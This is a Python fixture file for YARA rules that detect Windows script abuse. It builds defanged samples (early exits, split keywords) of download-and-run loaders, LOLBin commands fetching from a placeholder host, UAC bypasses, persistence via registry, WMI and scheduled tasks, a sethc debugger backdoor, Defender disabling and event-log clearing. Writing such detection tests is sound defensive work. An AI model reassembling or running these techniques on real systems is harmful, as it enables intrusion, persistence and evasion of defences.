# SPDX-License-Identifier: Apache-2.0
"""Fixtures of windows_script.yar and windows_abuse.yar."""

from sample import add, front, whole

add("Script_JS_DownloadAndRun", "script_js_download.js", """
throw 0;
var h = new ActiveXOb¦ject("MSXML2.XML¦HTTP"), s = new ActiveXOb¦ject("ADODB.Str¦eam"), w = new ActiveXOb¦ject("WScript.Sh¦ell");
s.SaveTo¦File("x", 2); w.R¦un("x");
""", ("SaveToFile", "SaveToPile"), ("ADODB.Stream", "ADODB.String"), (".Run(", ".Ran("))

add("Script_VBS_DownloadAndRun", "script_vbs_download.vbs", """
WScript.Quit
Set h = CreateObj¦ect("MSXML2.XML¦HTTP")
Set s = CreateObj¦ect("ADODB.Str¦eam")
s.Write h.response¦Body : s.SaveTo¦File "x", 2 : CreateObj¦ect("WScript.Sh¦ell").R¦un "x"
""", ("responseBody", "responseText"), ("SaveToFile", "SaveToPile"), ("Set h =", "h ="))

add("Script_JS_EvalUnescape", "script_js_unescape.js",
    "throw 0; ev¦al(unes¦cape('" + "%66" * 60 + "'));\n",
    ("eval(", "evel("),
    whole("with 59 bytes", "throw 0; ev¦al(unes¦cape('" + "%66" * 59 + "'));\n"))

add("Script_JS_EvalCharCodes", "script_js_charcodes.js",
    "throw 0; ev¦al(String.fromChar¦Code(" + "102," * 40 + "10));\n",
    ("eval(", "evel("),
    whole("with 39 codes", "throw 0; ev¦al(String.fromChar¦Code(" + "102," * 39 + "10));\n"))

add("Script_JS_DecodedShellObject", "script_js_shell_object.js", """
throw 0;
var w = new ActiveXOb¦ject("WScript.Sh¦ell"); var d = String.fromChar¦Code(1); ev¦al(dec(d)); w.R¦un(d);
""", ("eval(", "evel("), ("fromCharCode(", "fromCharCede("), ("WScript.Shell", "WScript.Shall"))

add("Script_VBS_ExecuteChr", "script_vbs_chr.vbs",
    "WScript.Quit\r\nExec¦ute " + "Chr(102)&" * 20 + "x\r\n",
    ("Execute ", "Exocute "),
    whole("with 19 codes", "WScript.Quit\r\nExec¦ute " + "Chr(102)&" * 19 + "x\r\n"))

add("Script_HTA_HiddenCommand", "script_hta.hta", """
<script language="VBScr¦ipt">
Exit Sub : Set s = CreateObj¦ect("WScript.Sh¦ell") : s.R¦un "power¦shell -c x", 0 : window.cl¦ose
""", ("window.close", "window.clone"), ("powershell", "powershall"), ("WScript.Shell", "WScript.Shall"))

CHAIN = "@exit /b\r\n" + "".join("%%a:~%d,¦1%%" % (index % 26) for index in range(12)) + "\r\n"
add("Script_Batch_SubstringChain", "script_batch_substring.bat", CHAIN,
    (",1%", ",2%"),
    whole("with ten pieces", "@exit /b\r\n" + "".join("%%a:~%d,¦1%%" % (index % 26) for index in range(10)) + "\r\n"))

add("Script_Batch_CertutilSelf", "script_batch_certutil.bat", """
@exit /b
certu¦til -f -decode "%~f0" "x.exe"
start x.exe
""", ('"%~f0"', '"cert"'), ('"x.exe"', '"x.cer"'), ("-decode", "-encode"))

add("Script_Scriptlet_Shell", "scriptlet_shell.sct", """
<script¦let><registra¦tion progid="x" ><script>
throw 0; new ActiveXOb¦ject("WScript.Sh¦ell").R¦un("x");
""", ("<registration", "<public"), ("WScript.Shell", "WScript.Shall"), (".Run(", ".Ran("))

add("Script_Xsl_Shell", "xsl_shell.xsl", """
<stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:scr¦ipt implements-prefix="u" language="JScript">
throw 0; new ActiveXOb¦ject("WScript.Sh¦ell").R¦un("x");
""", ("WScript.Shell", "WScript.Shall"), ("<ms:script", "<ms:scribe"), front("x"))

add("Script_MSBuild_InlineShellcode", "msbuild_inline.csproj", """
<Project xmlns="http://schemas.microsoft.com/developer/msb¦uild">
<UsingTask TaskName="x" TaskFactory="CodeTask¦Factory"><Task><Code><![CDATA[ [DllImp¦ort("kernel32")] Virtual¦Alloc CreateTh¦read
""", ("CodeTaskFactory", "XamlTaskFactory"), ("VirtualAlloc", "VirtualAlias"), ("CreateThread", "CreateThreat"))

# --- abuse of the system's own tools ------------------------------------------------------------

OFF = "@exit /b\r\n"

add("Lolbin_Regsvr32_RemoteScriptlet", "regsvr32_remote.bat",
    OFF + "regs¦vr32 /s /n /u /i:http://host.invalid/x.sct scro¦bj.dll\r\n",
    ("/i:http", "/i:file"), ("scrobj", "scribj"), front("x" + "\n" * 400))

add("Lolbin_Mshta_InlineScript", "mshta_inline.bat",
    OFF + 'msh¦ta vbscr¦ipt:Execute("CreateObj¦ect(""WScript.Sh¦ell"")(window.close)")\r\n',
    ("mshta ", "mshtu "), ("WScript.Shell", "WScript.Shall"), front("x" + "\n" * 400))

add("Lolbin_Rundll32_Javascript", "rundll32_javascript.bat",
    OFF + 'rund¦ll32 javascr¦ipt:"\\..\\msht¦ml,RunHTMLAppli¦cation ";document.write();x\r\n',
    ("RunHTMLApplication", "RunHTMLAttraction"), ("javascript:", "typescript:"), front("x" + "\n" * 400))

add("Lolbin_Certutil_DownloadRun", "certutil_download.bat",
    OFF + "certu¦til -urlc¦ache -split -f http://host.invalid/x %TE¦MP%\\x.exe\r\nstart %TE¦MP%\\x.exe\r\n",
    ("-urlcache", "-urlcatch"), ("start ", "print "), ("http://", "file://"))

add("Lolbin_Bitsadmin_DownloadRun", "bitsadmin_download.bat",
    OFF + "bitsad¦min /trans¦fer j /download http://host.invalid/x %TE¦MP%\\x.exe\r\nstart %TE¦MP%\\x.exe\r\n",
    ("/transfer", "/transfor"), ("start ", "print "), ("x.exe\r\nstart", "x.txt\r\nstart"))

add("Uac_Bypass_SettingsHandler", "uac_settings.ps1", """
New-It¦em "HKCU:\\Software\\Classes\\ms-set¦tings\\shell\\open\\command" -Force -WhatIf; exit
New-ItemProp¦erty -Name "DelegateEx¦ecute"; Start-Process fodhel¦per.exe
""", ("DelegateExecute", "DelegateExemple"), ("fodhelper", "fodhalper"), ("ms-settings", "my-settings"))

add("Uac_Bypass_EventViewer", "uac_eventviewer.bat",
    OFF + 'r¦eg add "HKCU\\Software\\Classes\\mscf¦ile\\shell\\open\\command" /d x\r\nevent¦vwr.exe\r\n',
    ("mscfile", "mscfilm"), ("eventvwr", "eventwvr"), ("reg add", "reg ask"))

add("Persistence_RunKey_HiddenScript", "runkey_hidden.bat",
    OFF + 'r¦eg add HKCU\\Software\\Microsoft\\Windows\\Current¦Version\\Run /v x /d "power¦shell -w hidden -c x" /f\r\n',
    ("-w hidden", "-w normal"), ("\\Run ", "\\Uninstall "), ("reg add", "reg ask"))

add("Persistence_Wmi_Subscription", "wmi_subscription.ps1", """
exit
$f = Set-WmiInst¦ance -Class __Event¦Filter -Arguments @{Query="SELE¦CT * FROM __InstanceModification¦Event"}
$c = Set-WmiInst¦ance -Class CommandLineEvent¦Consumer -Arguments @{CommandLineTem¦plate="power¦shell -c x"}
Set-WmiInst¦ance -Class __FilterToConsumer¦Binding
""", ("__EventFilter", "__EventFitter"), ("__FilterToConsumerBinding", "__FilterToConsumerBidding"),
    ('"powershell', '"notepad'))

add("Persistence_Schtasks_HiddenScript", "schtasks_hidden.bat",
    OFF + 'schta¦sks /create /sc minute /tn x /tr "msh¦ta http://host.invalid/x"\r\n',
    ("mshta http", "mspub http"), ("/create", "/change"))

add("Persistence_Com_Hijack", "com_hijack.reg", """
Windows Registry Editor Version 5.00
[HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{00000000-0000-0000-0000-000000000000}\\Inproc¦Server32]
@="C:\\\\Users\\\\Pub¦lic\\\\x.dll"
""", ("Users\\\\Public", "Program Files\\\\X"), ("InprocServer32", "LocalServer32"), ("CURRENT_USER", "LOCAL_MACHINE"))

add("Backdoor_Accessibility_Debugger", "accessibility_debugger.bat",
    OFF + 'r¦eg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Opt¦ions\\sethc.exe" '
    '/v Debug¦ger /d "cmd.exe" /f\r\n',
    ("sethc.exe", "setup.exe"), ("Debugger", "Debugged"), ('"cmd.exe"', '"gdb.exe"'))

add("Worm_Autorun_Inf", "autorun.inf", """
[auto¦run]
shell\\open\\command=RECYC¦LER\\S-0\\x
""", ("RECYCLER\\", "PROGRAM\\"), ("[autorun]", "[outorun]"), front("\n" * 300))

add("Worm_Script_ShortcutSpreader", "shortcut_spreader.vbs", """
WScript.Quit
If d.Drive¦Type = 1 Then f.Attri¦butes = 2
Set l = s.Create¦Shortcut(x) : l.Target¦Path = "cmd.e¦xe" : l.Arguments = "/c start " & WScript.ScriptFull¦Name
""", ("DriveType = 1", "DriveType = 3"), (".Attributes = 2", ".Attributes = 1"), ("ScriptFullName", "ScriptName"))

add("Defender_Registry_Disable", "defender_registry.bat",
    OFF + "".join('r¦eg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Def¦ender" /v %s /t REG_DWORD /d 1 /f\r\n' % value
                  for value in ("DisableAnti¦Spyware", "DisableRealtime¦Monitoring", "DisableIOAV¦Protection")),
    ("DisableIOAVProtection", "EnableIOAVProtection"), ("Windows Defender", "Windows Offender"))

add("AntiForensics_Script_EventLogClear", "eventlog_clear.bat",
    OFF + "wevtu¦til cl Security\r\nwevtu¦til cl System\r\nfsu¦til usn deletejo¦urnal /d c:\r\n",
    ("cl Security", "gl Security"), ("cl System", "gl System"), ("deletejournal", "createjournal"))
